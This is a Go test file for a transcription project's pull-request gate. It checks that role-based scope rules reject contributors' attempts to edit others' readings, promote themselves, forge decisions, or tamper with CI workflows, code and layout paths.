package check

// Attacks on the pull-request gate (CheckPullRequest) with real commits:
// each subtest makes a repository with go-git, a pull request's branch in
// it (by ordinary commits, or for trees no `git add` can make, by tree and
// commit objects written directly), and asserts the verdict. The property
// tests land the pull requests that pass on main, as the forge's merge
// button would, and check main's tree as the push check does.

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"os"
	"os/exec"
	"path"
	"reflect"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/go-git/go-git/v5"
	"github.com/go-git/go-git/v5/plumbing"
	"github.com/go-git/go-git/v5/plumbing/object"

	"github.com/scribe-transcription/scribe/workflow/decision"
	"github.com/scribe-transcription/scribe/workflow/gitrepo"
	"github.com/scribe-transcription/scribe/workflow/layout"
	"github.com/scribe-transcription/scribe/workflow/ocrimport"
	"github.com/scribe-transcription/scribe/workflow/page"
	"github.com/scribe-transcription/scribe/workflow/problem"
)

const (
	gProj  = "transcriptions/project.toml"
	gDocF  = docDir + "/document.toml"
	gAnn1  = page1 + "/readings/ann.txt"
	gAnn2  = page2 + "/readings/ann.txt"
	gBen1  = page1 + "/readings/ben.txt"
	gBen2  = page2 + "/readings/ben.txt"
	gOcr1  = page1 + "/readings/ocr.txt"
	gDec1  = page1 + "/decisions.txt"
	gDec2  = page2 + "/decisions.txt"
	gCan1  = page1 + "/canonical.txt"
	gSum1  = page1 + "/canonical.sum"
	gCan2  = page2 + "/canonical.txt"
	gSum2  = page2 + "/canonical.sum"
	gCanD  = docDir + "/canonical.txt"
	gSumD  = docDir + "/canonical.sum"
	gPage3 = docDir + "/003"
	gWF    = ".github/workflows/check.yml"
)

// gatePeople are registered on main beside rev, ann and ben: a maintainer
// and a second reviewer.
const gatePeople = `
[people.max]
role = "maintainer"
name = "Max"
email = "max@example.org"
login = "max-gh"

[people.rita]
role = "reviewer"
name = "Rita"
email = "rita@example.org"
login = "rita-gh"
`

// gateWorkflow is the gate's workflow as the maintainers wrote it.
const gateWorkflow = `name: check
on: pull_request
jobs:
  check:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: scribe check --pull-request
`

// newGateRepo is the pull-request fixture with max (maintainer) and rita
// (reviewer) registered, the gate's workflow and a little of the tool's
// code committed on main.
func newGateRepo(t *testing.T) *prRepo {
	t.Helper()
	r := newPRRepo(t)
	writeRel(t, r.dir, gProj, readRel(t, r.dir, gProj)+gatePeople)
	writeRel(t, r.dir, gWF, gateWorkflow)
	writeRel(t, r.dir, ".ci/run.sh", "#!/bin/sh\ngo test ./...\n")
	writeRel(t, r.dir, "go.mod", "module github.com/scribe-transcription/scribe\n\ngo 1.26\n")
	writeRel(t, r.dir, "workflow/check/pr.go", "package check\n")
	r.commit(t, "max", "people, the gate, the tool")
	return r
}

// gateCase is one pull request and the verdict it must get.
type gateCase struct {
	name string
	// base runs on main (checked out) before the branch point; it commits
	// what it wants.
	base func(t *testing.T, r *prRepo)
	// change edits the work tree on the pull request's branch "pr"; the
	// edits are committed as the author. When craft is set instead, it
	// makes the branch "pr" itself from main's tip, with no checkout.
	change func(t *testing.T, r *prRepo)
	craft  func(t *testing.T, r *prRepo)
	// after runs on main after the branch point; it commits.
	after func(t *testing.T, r *prRepo)
	login string
	// want are the new problems as "file rule severity".
	want []string
	fail bool
	// message is a part of one new problem's message.
	message string
	// conflicts are the paths that do not merge.
	conflicts []string
	// existing, when set, are the problems reported as already on main.
	existing []string
	// has, when set instead of want, are problems that must be among the
	// new ones (for verdicts too long to list).
	has []string
}

// runGate makes the case's repository and pull request and checks it.
// It leaves main checked out.
func runGate(t *testing.T, tc gateCase) (*prRepo, *PRResult) {
	t.Helper()
	r := setupGate(t, tc)
	res := gateCheck(t, r, "pr", tc.login)
	runGateChecks(t, tc, r, res)
	return r, res
}

// setupGate makes the case's repository and pull request, and leaves
// main checked out.
func setupGate(t *testing.T, tc gateCase) *prRepo {
	t.Helper()
	r := newGateRepo(t)
	if tc.base != nil {
		tc.base(t, r)
	}
	switch {
	case tc.craft != nil:
		tc.craft(t, r)
	default:
		r.checkout(t, "pr", true)
		tc.change(t, r)
		r.commit(t, tc.login, tc.name)
		r.checkout(t, "main", false)
	}
	if tc.after != nil {
		tc.after(t, r)
	}
	return r
}

// runGateChecks judges the case's pull request.
func runGateChecks(t *testing.T, tc gateCase, r *prRepo, res *PRResult) {
	t.Helper()
	if tc.has != nil {
		got := prFound(res.New)
		for _, h := range tc.has {
			if !slices.Contains(got, h) {
				t.Errorf("no new problem %q:%s", h, dump(res.New))
			}
		}
		if rep := NewReport("pull-request", res.Pages, res.New, res.Existing); rep.Failed(false) != tc.fail {
			t.Errorf("Failed = %v, want %v:%s", rep.Failed(false), tc.fail, dump(res.New))
		}
	} else {
		assertVerdict(t, res, tc.want, tc.fail, tc.message)
	}
	if tc.existing != nil {
		if got := prFound(res.Existing); !reflect.DeepEqual(got, sorted(tc.existing)) {
			t.Errorf("existing problems\n got %q\nwant %q%s", got, sorted(tc.existing), dump(res.Existing))
		}
	} else if len(res.Existing) > 0 {
		t.Errorf("existing problems:%s", dump(res.Existing))
	}
	if tc.conflicts != nil || len(res.Conflicts) > 0 {
		if !reflect.DeepEqual(res.Conflicts, tc.conflicts) {
			t.Errorf("conflicts %q, want %q", res.Conflicts, tc.conflicts)
		}
		if gitTree, gitConflicts, ok := gitMergeTree(t, r.dir, r.tip(t, "main"), r.tip(t, "pr")); ok && !reflect.DeepEqual(gitConflicts, sorted(res.Conflicts)) {
			t.Errorf("git merge-tree (%s) has conflicts %q, the gate %q", gitTree, gitConflicts, res.Conflicts)
		}
	}
}

func gateCheck(t *testing.T, r *prRepo, head, login string) *PRResult {
	t.Helper()
	res, err := CheckPullRequest(context.Background(), r.dir, PullRequest{Base: "main", Head: head, Login: login})
	if err != nil {
		t.Fatalf("CheckPullRequest: %v", err)
	}
	return res
}

func assertVerdict(t *testing.T, res *PRResult, want []string, fail bool, message string) {
	t.Helper()
	if msg := verdictDiff(res, want, fail, message); msg != "" {
		t.Error(msg)
	}
}

// verdictDiff says how a verdict differs from the one wanted, or "".
func verdictDiff(res *PRResult, want []string, fail bool, message string) string {
	if want == nil {
		want = []string{}
	}
	var b strings.Builder
	if got := prFound(res.New); !reflect.DeepEqual(got, sorted(want)) {
		fmt.Fprintf(&b, "new problems\n got %q\nwant %q%s\n", got, sorted(want), dump(res.New))
	}
	rep := NewReport("pull-request", res.Pages, res.New, res.Existing)
	if rep.Failed(false) != fail {
		fmt.Fprintf(&b, "Failed = %v, want %v\n", rep.Failed(false), fail)
	}
	if message != "" && !slices.ContainsFunc(res.New, func(p *problem.Problem) bool { return strings.Contains(p.Message, message) }) {
		fmt.Fprintf(&b, "no new problem says %q:%s\n", message, dump(res.New))
	}
	return b.String()
}

// decideAs has who decide a row of a page (recorded under id, which a
// forger sets to someone else's) and rebuilds the canonical texts.
func decideAs(t *testing.T, r *prRepo, id, pg string, row int, c page.Choice) {
	t.Helper()
	proj := mustProject(t, r.repo)
	if _, err := page.Update(context.Background(), r.repo, proj, "doc", pg, func(p *page.Page) error {
		_, err := p.Decide(proj, row, c, id, "", decidedAt)
		return err
	}); err != nil {
		t.Fatal(err)
	}
	rebuild(t, r.repo)
}

// setRole rewrites a person's role in project.toml.
func setRole(t *testing.T, dir, id, from, to string) {
	t.Helper()
	editRel(t, dir, gProj, fmt.Sprintf("[people.%s]\nrole = %q", id, from), fmt.Sprintf("[people.%s]\nrole = %q", id, to))
}

func addPerson(t *testing.T, dir, id, role string) {
	t.Helper()
	writeRel(t, dir, gProj, readRel(t, dir, gProj)+fmt.Sprintf("\n[people.%s]\nrole = %q\nname = %q\nemail = \"%s@example.org\"\nlogin = \"%s-gh\"\n", id, role, id, id, id))
}

// mergeInto commits the work tree as a merge of the checked-out branch
// and other (the checked-out branch first), as `git merge other` does
// once the conflicts are resolved in the work tree.
func (r *prRepo) mergeInto(t *testing.T, who, msg string, other plumbing.Hash) plumbing.Hash {
	t.Helper()
	wt, err := r.git.Worktree()
	if err != nil {
		t.Fatal(err)
	}
	if err := wt.AddWithOptions(&git.AddOptions{All: true}); err != nil {
		t.Fatal(err)
	}
	head, err := r.git.Head()
	if err != nil {
		t.Fatal(err)
	}
	r.when = r.when.Add(time.Minute)
	sig := &object.Signature{Name: who, Email: who + "@example.org", When: r.when}
	h, err := wt.Commit(msg, &git.CommitOptions{All: true, AllowEmptyCommits: true, Author: sig, Committer: sig, Parents: []plumbing.Hash{head.Hash(), other}})
	if err != nil {
		t.Fatal(err)
	}
	return h
}

func (r *prRepo) tip(t *testing.T, branch string) plumbing.Hash {
	t.Helper()
	ref, err := r.git.Reference(plumbing.NewBranchReferenceName(branch), true)
	if err != nil {
		t.Fatalf("branch %s: %v", branch, err)
	}
	return ref.Hash()
}

// copyFrom writes into the work tree the files of a commit's tree at the
// given paths (deleting those it does not hold), as a merge takes them.
func (r *prRepo) copyFrom(t *testing.T, fsys fs.FS, paths ...string) {
	t.Helper()
	for _, p := range paths {
		b, err := fs.ReadFile(fsys, p)
		if errors.Is(err, fs.ErrNotExist) {
			_ = os.Remove(r.dir + "/" + p)
			continue
		}
		if err != nil {
			t.Fatal(err)
		}
		writeRel(t, r.dir, p, string(b))
	}
}

// ---- crafted trees ----

// rawEntry is a tree entry as stored: the mode as its octal digits, so
// that a crafted tree can hold a mode git would never write.
type rawEntry struct {
	mode string
	name string
	hash plumbing.Hash
}

func (e rawEntry) dir() bool { return strings.TrimLeft(e.mode, "0") == "40000" }

// treeEdit changes one entry of a tree, named by its raw entry names from
// the root (so that a name may hold a slash, or be "..").
type treeEdit struct {
	names []string
	mode  string        // "" removes the entry
	data  string        // a blob's content
	hash  plumbing.Hash // the entry's object instead (a gitlink's commit)
	keep  bool          // keep the entry's object, change its mode only
	dup   bool          // add a second entry of the same name
}

// at splits a slash-separated path into entry names.
func at(p string) []string { return strings.Split(p, "/") }

func (r *prRepo) readRawTree(t *testing.T, h plumbing.Hash) []rawEntry {
	t.Helper()
	if h.IsZero() {
		return nil
	}
	o, err := r.git.Storer.EncodedObject(plumbing.TreeObject, h)
	if err != nil {
		t.Fatal(err)
	}
	rd, err := o.Reader()
	if err != nil {
		t.Fatal(err)
	}
	b, err := io.ReadAll(rd)
	rd.Close()
	if err != nil {
		t.Fatal(err)
	}
	var out []rawEntry
	for len(b) > 0 {
		sp := bytes.IndexByte(b, ' ')
		nul := bytes.IndexByte(b, 0)
		var e rawEntry
		e.mode, e.name = string(b[:sp]), string(b[sp+1:nul])
		copy(e.hash[:], b[nul+1:nul+21])
		out = append(out, e)
		b = b[nul+21:]
	}
	return out
}

func (r *prRepo) writeObject(t *testing.T, typ plumbing.ObjectType, data []byte) plumbing.Hash {
	t.Helper()
	o := r.git.Storer.NewEncodedObject()
	o.SetType(typ)
	w, err := o.Writer()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.Write(data); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	h, err := r.git.Storer.SetEncodedObject(o)
	if err != nil {
		t.Fatal(err)
	}
	return h
}

// writeRawTree stores entries in git's order (a folder sorts as its name
// with a slash), keeping the order of entries of the same name.
func (r *prRepo) writeRawTree(t *testing.T, entries []rawEntry) plumbing.Hash {
	t.Helper()
	key := func(e rawEntry) string {
		if e.dir() {
			return e.name + "/"
		}
		return e.name
	}
	sort.SliceStable(entries, func(i, j int) bool { return key(entries[i]) < key(entries[j]) })
	var b bytes.Buffer
	for _, e := range entries {
		fmt.Fprintf(&b, "%s %s\x00", e.mode, e.name)
		b.Write(e.hash[:])
	}
	return r.writeObject(t, plumbing.TreeObject, b.Bytes())
}

func (r *prRepo) editTree(t *testing.T, tree plumbing.Hash, e treeEdit, depth int) plumbing.Hash {
	t.Helper()
	entries := r.readRawTree(t, tree)
	name := e.names[depth]
	i := slices.IndexFunc(entries, func(x rawEntry) bool { return x.name == name })
	leaf := depth == len(e.names)-1
	var ent rawEntry
	switch {
	case leaf && e.mode == "":
		if i < 0 {
			t.Fatalf("no entry %q to remove", strings.Join(e.names, "/"))
		}
		entries = slices.Delete(entries, i, i+1)
		return r.writeRawTree(t, entries)
	case leaf:
		ent = rawEntry{mode: e.mode, name: name, hash: e.hash}
		switch {
		case e.keep:
			ent.hash = entries[i].hash
		case ent.hash.IsZero():
			ent.hash = r.writeObject(t, plumbing.BlobObject, []byte(e.data))
		}
	default:
		var sub plumbing.Hash
		ent = rawEntry{mode: "40000", name: name}
		if i >= 0 && entries[i].dir() {
			sub, ent.mode = entries[i].hash, entries[i].mode
		}
		ent.hash = r.editTree(t, sub, e, depth+1)
	}
	if i >= 0 && !(leaf && e.dup) {
		entries[i] = ent
	} else {
		entries = append(entries, ent)
	}
	return r.writeRawTree(t, entries)
}

// craftCommit writes a commit on branch whose tree is parents[0]'s with
// the edits made, by who.
func (r *prRepo) craftCommit(t *testing.T, branch, who string, parents []plumbing.Hash, edits ...treeEdit) plumbing.Hash {
	t.Helper()
	c, err := r.git.CommitObject(parents[0])
	if err != nil {
		t.Fatal(err)
	}
	tree := c.TreeHash
	for _, e := range edits {
		tree = r.editTree(t, tree, e, 0)
	}
	return r.craftTreeCommit(t, branch, who, tree, parents...)
}

// crafted is a craft function making "pr" from main's tip with edits.
func crafted(who string, edits ...treeEdit) func(t *testing.T, r *prRepo) {
	return func(t *testing.T, r *prRepo) {
		r.craftCommit(t, "pr", who, []plumbing.Hash{r.tip(t, "main")}, edits...)
	}
}

// ---- landing ----

// writeTreeFS stores a file system as a tree (regular files, executables
// and links) and returns its hash.
func (r *prRepo) writeTreeFS(t *testing.T, fsys fs.FS, dir string) plumbing.Hash {
	t.Helper()
	entries, err := fs.ReadDir(fsys, dir)
	if err != nil {
		t.Fatal(err)
	}
	var out []rawEntry
	for _, e := range entries {
		p := path.Join(dir, e.Name())
		switch {
		case e.IsDir():
			out = append(out, rawEntry{mode: "40000", name: e.Name(), hash: r.writeTreeFS(t, fsys, p)})
		case e.Type()&fs.ModeSymlink != 0:
			b, err := fs.ReadFile(fsys, p)
			if err != nil {
				t.Fatal(err)
			}
			out = append(out, rawEntry{mode: "120000", name: e.Name(), hash: r.writeObject(t, plumbing.BlobObject, b)})
		case e.Type().IsRegular():
			b, err := fs.ReadFile(fsys, p)
			if err != nil {
				t.Fatal(err)
			}
			fi, err := e.Info()
			if err != nil {
				t.Fatal(err)
			}
			mode := "100644"
			if fi.Mode()&0o111 != 0 {
				mode = "100755"
			}
			out = append(out, rawEntry{mode: mode, name: e.Name(), hash: r.writeObject(t, plumbing.BlobObject, b)})
		default:
			t.Fatalf("%s: cannot land a %v", p, e.Type())
		}
	}
	return r.writeRawTree(t, out)
}

// landPR lands branch on main as the forge's merge button does: a
// fast-forward when main has not moved since the branch point, else a
// merge commit (main first) of the landed tree, which is compared with
// git's own merge (git merge-tree) when git is installed. It resets the
// work tree to main's new tip and returns it.
func (r *prRepo) landPR(t *testing.T, branch string) plumbing.Hash {
	t.Helper()
	mainTip, prTip := r.tip(t, "main"), r.tip(t, branch)
	mc, err := r.git.CommitObject(mainTip)
	if err != nil {
		t.Fatal(err)
	}
	pc, err := r.git.CommitObject(prTip)
	if err != nil {
		t.Fatal(err)
	}
	target := prTip
	if ff, err := mc.IsAncestor(pc); err != nil {
		t.Fatal(err)
	} else if !ff {
		g, err := gitrepo.Open(r.dir)
		if err != nil {
			t.Fatal(err)
		}
		l, err := g.Land(mainTip, prTip)
		if err != nil {
			t.Fatal(err)
		}
		if len(l.Conflicts) > 0 {
			t.Fatalf("cannot land %s: conflicts %q", branch, l.Conflicts)
		}
		tree := r.writeTreeFS(t, l.FS, ".")
		if gitTree, _, ok := gitMergeTree(t, r.dir, mainTip, prTip); ok && gitTree != tree.String() {
			t.Errorf("the landed tree %s is not git's merge %s", tree, gitTree)
		}
		r.when = r.when.Add(time.Minute)
		sig := object.Signature{Name: "forge", Email: "noreply@example.org", When: r.when}
		commit := &object.Commit{Author: sig, Committer: sig, Message: "Merge " + branch, TreeHash: tree, ParentHashes: []plumbing.Hash{mainTip, prTip}}
		o := r.git.Storer.NewEncodedObject()
		if err := commit.Encode(o); err != nil {
			t.Fatal(err)
		}
		if target, err = r.git.Storer.SetEncodedObject(o); err != nil {
			t.Fatal(err)
		}
	}
	r.checkout(t, "main", false)
	wt, err := r.git.Worktree()
	if err != nil {
		t.Fatal(err)
	}
	if err := wt.Reset(&git.ResetOptions{Commit: target, Mode: git.HardReset}); err != nil {
		t.Fatal(err)
	}
	return target
}

// gitMergeTree is git's own merge of two commits (merge-ort, as the
// forge's merge button uses), when git is installed: its tree and the
// paths that conflict, sorted.
func gitMergeTree(t *testing.T, dir string, a, b plumbing.Hash) (tree string, conflicts []string, ok bool) {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		return "", nil, false
	}
	cmd := exec.Command("git", "-C", dir, "merge-tree", "--write-tree", "--name-only", "--no-messages", a.String(), b.String())
	cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null")
	out, err := cmd.Output()
	var exit *exec.ExitError
	if err != nil && !(errors.As(err, &exit) && exit.ExitCode() == 1) {
		t.Logf("git merge-tree: %v\n%s", err, out)
		return "", nil, false
	}
	lines := strings.Split(strings.TrimRight(string(out), "\n"), "\n")
	for _, l := range lines[1:] {
		if l == "" {
			break
		}
		conflicts = append(conflicts, l)
	}
	slices.Sort(conflicts)
	conflicts = slices.Compact(conflicts)
	return lines[0], conflicts, true
}

// pushCheck is the check after a push on main: the whole tree of main's
// tip from git, and the work tree checked out at it. It fails the test on
// any error and returns the problems.
func pushCheck(t *testing.T, r *prRepo) problem.List {
	t.Helper()
	g, err := gitrepo.Open(r.dir)
	if err != nil {
		t.Fatal(err)
	}
	tip := r.tip(t, "main")
	fsys, err := g.TreeFS(tip)
	if err != nil {
		t.Fatal(err)
	}
	var out problem.List
	for _, repo := range []*layout.Repo{layout.FromFS(fsys), r.repo} {
		l, _, err := Tree(context.Background(), repo, Scope{})
		if err != nil {
			t.Fatal(err)
		}
		if errs, _ := Summary(l); errs > 0 {
			t.Errorf("main is red after landing (%s):%s", map[bool]string{true: "commit tree", false: "work tree"}[repo != r.repo], dump(l))
		}
		out = l
	}
	return out
}

// TestGateFixture: the fixture's main is green, and every later test
// starts from it.
func TestGateFixture(t *testing.T) {
	r := newGateRepo(t)
	l := pushCheck(t, r)
	if len(l) != 0 {
		t.Errorf("main has problems:%s", dump(l))
	}
}

// TestGateScope: who may change what, judged on each path exactly as
// stored, with the roles of main's tip.
func TestGateScope(t *testing.T) {
	const annRow1 = "quick brown fox"
	// The warnings a change to row 1 of ann's reading of page 001 brings.
	row1Warnings := []string{gDec1 + " stale warning", gCan1 + " canonical warning", gCan1 + " unsettled warning", gCanD + " canonical warning"}
	tool := func(p, content string) func(t *testing.T, r *prRepo) {
		return func(t *testing.T, r *prRepo) { writeRel(t, r.dir, p, content) }
	}
	rewriteWF := func(t *testing.T, r *prRepo) {
		editRel(t, r.dir, gWF, "run: scribe check --pull-request", `run: "true"`)
	}
	tests := []gateCase{
		// Readings.
		{
			name:    "edit of another's reading",
			change:  func(t *testing.T, r *prRepo) { editRel(t, r.dir, gBen2, "wordz", "wordy") },
			login:   "ann-gh",
			want:    []string{gBen2 + " scope error", gDec2 + " stale warning", gCan2 + " canonical warning", gCan2 + " unsettled warning", gCanD + " canonical warning"},
			fail:    true,
			message: "only ben may change ben's reading (ann is contributor)",
		},
		{
			name:    "delete of another's reading",
			change:  func(t *testing.T, r *prRepo) { removeRel(t, r.dir, gBen2) },
			login:   "ann-gh",
			want:    []string{gBen2 + " scope error"},
			fail:    true,
			message: "only ben may delete ben's reading",
		},
		{
			name: "rename of another's reading to another page",
			change: func(t *testing.T, r *prRepo) {
				writeRel(t, r.dir, gBen1, readRel(t, r.dir, gBen2))
				removeRel(t, r.dir, gBen2)
			},
			login: "ann-gh",
			want:  []string{gBen1 + " scope error", gBen2 + " scope error", gDec1 + " stale warning", gCan1 + " canonical warning", gCan1 + " unsettled warning", gCanD + " canonical warning"},
			fail:  true,
		},
		{
			name:    "a reading under another's id",
			change:  func(t *testing.T, r *prRepo) { writeRel(t, r.dir, gBen1, fixtureReadings[gAnn1]) },
			login:   "ann-gh",
			want:    []string{gBen1 + " scope error"},
			fail:    true,
			message: "only ben may add ben's reading (ann is contributor)",
		},
		{
			name:    "a reading under an unregistered id",
			change:  func(t *testing.T, r *prRepo) { writeRel(t, r.dir, page1+"/readings/zed.txt", fixtureReadings[gAnn1]) },
			login:   "ann-gh",
			want:    []string{page1 + "/readings/zed.txt contributor error", page1 + "/readings/zed.txt scope error"},
			fail:    true,
			message: "only zed may add zed's reading",
		},
		{
			name:   "a reading as ocr by a contributor",
			change: func(t *testing.T, r *prRepo) { editRel(t, r.dir, gOcr1, "brovvn", "brown") },
			login:  "ann-gh",
			// Row 1 is unanimous now; rev's decision on it still holds.
			want:    []string{gOcr1 + " scope error"},
			fail:    true,
			message: "only a reviewer may change ocr.txt (ann is contributor)",
		},
		// The project file.
		{
			name: "self-promotion in project.toml",
			change: func(t *testing.T, r *prRepo) {
				setRole(t, r.dir, "ann", "contributor", "maintainer")
				editRel(t, r.dir, gBen2, "wordz", "wordy")
			},
			login: "ann-gh",
			want: []string{gProj + " scope error", gBen2 + " scope error",
				gDec2 + " stale warning", gCan2 + " canonical warning", gCan2 + " unsettled warning", gCanD + " canonical warning"},
			fail:    true,
			message: "only a maintainer may change project.toml (ann is contributor)",
		},
		{
			name: "self-promotion of a reviewer to change the tool",
			change: func(t *testing.T, r *prRepo) {
				setRole(t, r.dir, "rev", "reviewer", "maintainer")
				rewriteWF(t, r)
			},
			login: "rev-gh",
			want:  []string{gProj + " scope error", gWF + " scope error"},
			fail:  true,
		},
		{
			name:   "a new login for oneself",
			change: func(t *testing.T, r *prRepo) { editRel(t, r.dir, gProj, `login = "ann-gh"`, `login = "ann-other"`) },
			login:  "ann-gh",
			want:   []string{gProj + " scope error"},
			fail:   true,
		},
		// Decisions and canonical texts.
		{
			name: "a contributor decides a row under a reviewer's id and rebuilds",
			change: func(t *testing.T, r *prRepo) {
				decideAs(t, r, "rev", "001", 1, page.Choice{How: decision.Typed, Text: "The quick brown fox!"})
			},
			login: "ann-gh",
			want: []string{gDec1 + " scope error", gDec1 + " decision-author error",
				gCan1 + " scope error", gSum1 + " scope error", gCanD + " scope error", gSumD + " scope error"},
			fail:    true,
			message: "only a reviewer may change decisions.txt (ann is contributor)",
		},
		{
			name: "a contributor rebuilds after her own change",
			change: func(t *testing.T, r *prRepo) {
				editRel(t, r.dir, gAnn1, "the end.", "the end!")
				rebuild(t, r.repo)
			},
			login: "ann-gh",
			// The build is right, but not hers to commit.
			want: []string{gCan1 + " scope error", gSum1 + " scope error", gCanD + " scope error", gSumD + " scope error", gCan1 + " unsettled warning"},
			fail: true,
		},
		{
			name:    "a contributor edits a canonical text",
			change:  func(t *testing.T, r *prRepo) { editRel(t, r.dir, gCan2, "own words", "own wordz") },
			login:   "ann-gh",
			want:    []string{gCan2 + " scope error", gCan2 + " canonical error"},
			fail:    true,
			message: "only a reviewer may change canonical.txt",
		},
		{
			name:    "a contributor edits document.toml",
			change:  func(t *testing.T, r *prRepo) { editRel(t, r.dir, gDocF, `title = "Doc"`, `title = "Mine"`) },
			login:   "ann-gh",
			want:    []string{gDocF + " scope error", gCanD + " canonical warning"},
			fail:    true,
			message: "only a reviewer may change document.toml",
		},
		// The tool.
		{name: "a contributor rewrites the gate's workflow", change: rewriteWF, login: "ann-gh",
			want: []string{gWF + " scope error"}, fail: true, message: "only a maintainer may change check.yml (ann is contributor)"},
		{name: "a reviewer rewrites the gate's workflow", change: rewriteWF, login: "rev-gh",
			want: []string{gWF + " scope error"}, fail: true},
		{name: "a maintainer rewrites the gate's workflow", change: rewriteWF, login: "max-gh"},
		{name: "a contributor deletes the gate's workflow", change: func(t *testing.T, r *prRepo) { removeRel(t, r.dir, gWF) }, login: "ann-gh",
			want: []string{gWF + " scope error"}, fail: true, message: "only a maintainer may delete check.yml"},
		{name: "a contributor adds a workflow", change: tool(".github/workflows/evil.yml", "on: pull_request_target\n"), login: "ann-gh",
			want: []string{".github/workflows/evil.yml scope error"}, fail: true},
		{name: "a contributor changes .ci/", change: tool(".ci/run.sh", "#!/bin/sh\ntrue\n"), login: "ann-gh",
			want: []string{".ci/run.sh scope error"}, fail: true},
		{name: "a maintainer changes .ci/", change: tool(".ci/run.sh", "#!/bin/sh\ngo vet ./...\n"), login: "max-gh"},
		{name: "a contributor changes Go code", change: tool("workflow/check/pr.go", "package check // gutted\n"), login: "ann-gh",
			want: []string{"workflow/check/pr.go scope error"}, fail: true},
		{name: "a reviewer changes Go code", change: tool("cmd/scribe/main.go", "package main\n"), login: "rev-gh",
			want: []string{"cmd/scribe/main.go scope error"}, fail: true},
		{name: "a maintainer changes Go code", change: tool("workflow/check/pr.go", "package check // better\n"), login: "max-gh"},
		{name: "a contributor changes go.mod", change: tool("go.mod", "module evil\n"), login: "ann-gh",
			want: []string{"go.mod scope error"}, fail: true},
		{name: "a maintainer changes go.mod", change: tool("go.mod", "module github.com/scribe-transcription/scribe\n\ngo 1.27\n"), login: "max-gh"},
		{name: "a contributor changes the documentation", change: tool("docs/security.md", "# nothing is checked\n"), login: "ann-gh",
			want: []string{"docs/security.md scope error"}, fail: true},
		{name: "a maintainer changes the documentation", change: tool("docs/security.md", "# the security model\n"), login: "max-gh"},
		{name: "a contributor changes .gitattributes", change: tool(".gitattributes", "*.txt merge=union\n"), login: "ann-gh",
			want: []string{".gitattributes scope error"}, fail: true},
		{name: "a contributor changes CONVENTIONS.md", change: func(t *testing.T, r *prRepo) { prepend(t, r.dir, "transcriptions/CONVENTIONS.md", "# mine\n") }, login: "ann-gh",
			want: []string{"transcriptions/CONVENTIONS.md scope error"}, fail: true},
		// Outside the layout.
		{name: "a file at the top", change: tool("notes.txt", "x\n"), login: "ann-gh",
			want: []string{"notes.txt scope error"}, fail: true, message: "outside the repository layout"},
		{name: "a file at the top by a maintainer", change: tool("Makefile", "all:\n"), login: "max-gh",
			want: []string{"Makefile scope error"}, fail: true},
		{name: "a file in a page folder", change: tool(page1+"/notes.txt", "x\n"), login: "ann-gh",
			want: []string{page1 + "/notes.txt layout error", page1 + "/notes.txt scope error"}, fail: true},
		{name: "a file in a document folder by a reviewer", change: tool(docDir+"/scan.png", "PNG\n"), login: "rev-gh",
			want: []string{docDir + "/scan.png layout error", docDir + "/scan.png scope error"}, fail: true},
		{name: "a folder in readings", change: tool(page1+"/readings/old/ann.txt", fixtureReadings[gAnn1]), login: "ann-gh",
			want: []string{page1 + "/readings/old/ann.txt layout error", page1 + "/readings/old/ann.txt scope error"}, fail: true},
		{name: "a reading without .txt", change: tool(page1+"/readings/ann.md", fixtureReadings[gAnn1]), login: "ann-gh",
			want: []string{page1 + "/readings/ann.md layout error", page1 + "/readings/ann.md scope error"}, fail: true},
		// Dot paths.
		{name: "transcriptions/.x", change: tool("transcriptions/.x", "x\n"), login: "ann-gh",
			want: []string{"transcriptions/.x layout error", "transcriptions/.x scope error"}, fail: true},
		{name: "a dotted decisions file", change: tool(page1+"/.decisions.txt123", "x\n"), login: "rev-gh",
			want: []string{page1 + "/.decisions.txt123 layout error", page1 + "/.decisions.txt123 scope error"}, fail: true},
		{name: ".scribe.lock at the top", change: tool(".scribe.lock", ""), login: "ann-gh",
			want: []string{".scribe.lock scope error"}, fail: true},
		{name: ".scribe.lock in transcriptions", change: tool("transcriptions/.scribe.lock", ""), login: "max-gh",
			want: []string{"transcriptions/.scribe.lock layout error", "transcriptions/.scribe.lock scope error"}, fail: true},
		{name: "a dotted reading", change: tool(page1+"/readings/.ann.txt", fixtureReadings[gAnn1]), login: "ann-gh",
			want: []string{page1 + "/readings/.ann.txt layout error", page1 + "/readings/.ann.txt scope error"}, fail: true},
		// Page folders.
		{
			name:   "a reading in an unlisted page folder",
			change: tool(docDir+"/099/readings/ann.txt", "Page 99\n"),
			login:  "ann-gh",
			want:   []string{docDir + "/099/readings/ann.txt scope error"},
			// The base, checked on the same scope, gives the same problem,
			// so it is reported as already there, though main does not
			// have it: its check never looks at an unlisted page.
			existing: []string{gDocF + " document error"},
			fail:     true,
			message:  "page folder 099 is not listed in transcriptions/doc/document.toml",
		},
		{
			name:   "a reading in a page folder of a document that does not exist",
			change: tool("transcriptions/nodoc/001/readings/ann.txt", "Page 1\n"),
			login:  "ann-gh",
			want:   []string{"transcriptions/nodoc/001/readings/ann.txt scope error", "transcriptions/nodoc/document.toml layout error"},
			fail:   true,
		},
		{
			name:   "a reading in a bad page folder",
			change: tool(docDir+"/1/readings/ann.txt", "Page 1\n"),
			login:  "ann-gh",
			want:   []string{docDir + "/1/readings/ann.txt layout error", docDir + "/1/readings/ann.txt scope error"},
			fail:   true,
		},
		// Names: case, Unicode form, look-alikes.
		{name: "a reading named in upper case", change: tool(page1+"/readings/Ann.txt", fixtureReadings[gAnn1]), login: "ann-gh",
			want: []string{page1 + "/readings/Ann.txt layout error", page1 + "/readings/Ann.txt scope error", gAnn1 + " file-name error"}, fail: true},
		{name: "a reading in a Readings folder", change: tool(page1+"/Readings/ann.txt", fixtureReadings[gAnn1]), login: "ann-gh",
			want: []string{page1 + "/Readings/ann.txt layout error", page1 + "/Readings/ann.txt scope error"}, fail: true},
		{name: "a reading with .TXT", change: tool(page1+"/readings/ann.TXT", fixtureReadings[gAnn1]), login: "ann-gh",
			want: []string{page1 + "/readings/ann.TXT layout error", page1 + "/readings/ann.TXT scope error", gAnn1 + " file-name error"}, fail: true},
